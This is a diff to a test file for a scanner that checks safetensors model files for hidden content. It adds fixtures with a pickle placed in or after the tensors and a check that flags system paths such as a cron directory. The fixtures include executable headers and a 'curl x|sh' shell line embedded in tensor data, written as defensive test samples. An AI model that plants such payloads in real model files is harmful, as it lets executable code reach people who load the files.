@@ -135,6 +135,10 @@ FLAWS: dict[str, tuple[bytes, str]] = {
     "zip behind the tensors": (build(GOOD, DATA + b"PK\x03\x04" + bytes(40)), "safetensors.trailing-payload"),
     "program behind the tensors": (build(GOOD, DATA + b"\x7fELF\x02\x01\x01" + bytes(60)), "safetensors.trailing-payload"),
     "Windows program behind the tensors": (build(GOOD, DATA + b"MZ\x90\x00" + bytes(100)), "safetensors.trailing-payload"),
+    "pickle in a tensor": (
+        build({"w": {"dtype": "U8", "shape": [64], "data_offsets": [0, 64]}}, pickle.dumps([1] * 9).ljust(64)),
+        "safetensors.tensor-object",
+    ),
     "program in a tensor": (build(GOOD, b"\x7fELF\x02\x01\x01" + bytes(57)), "safetensors.tensor-payload"),
     "script in a tensor": (build(GOOD, b"#!/bin/sh\ncurl x|sh\n".ljust(64)), "safetensors.tensor-payload"),
 }
@@ -187,6 +191,18 @@ def test_prose_is_quiet(value: str) -> None:
 def test_a_template_in_the_metadata_is_a_member() -> None:
     found = items(build({**GOOD, "__metadata__": {"chat_template": "{{ messages }}"}}))
     assert [(i.name, i.format) for i in found if isinstance(i, Asset)] == [("__metadata__.chat_template", "jinja")]
+
+
+def test_a_pickle_behind_or_in_the_tensors_is_a_member() -> None:
+    made = pickle.dumps({"a": [1] * 50})
+    (member,) = [i for i in items(build(GOOD, DATA + made)) if isinstance(i, Asset)]
+    assert member.content is not None
+    assert member.content.read() == made
+
+
+def test_names_of_graph_nodes_are_told_from_paths_of_the_system() -> None:
+    found = items(build({"/model/layers.0/MatMul_output_0": GOOD["a"], "/etc/cron.d/x": GOOD["b"]}))
+    assert [i.attrs["problem"] for i in found if isinstance(i, Fact)] == ["absolute", "path"]
 
 
 def test_identify_knows_it_without_its_name() -> None:
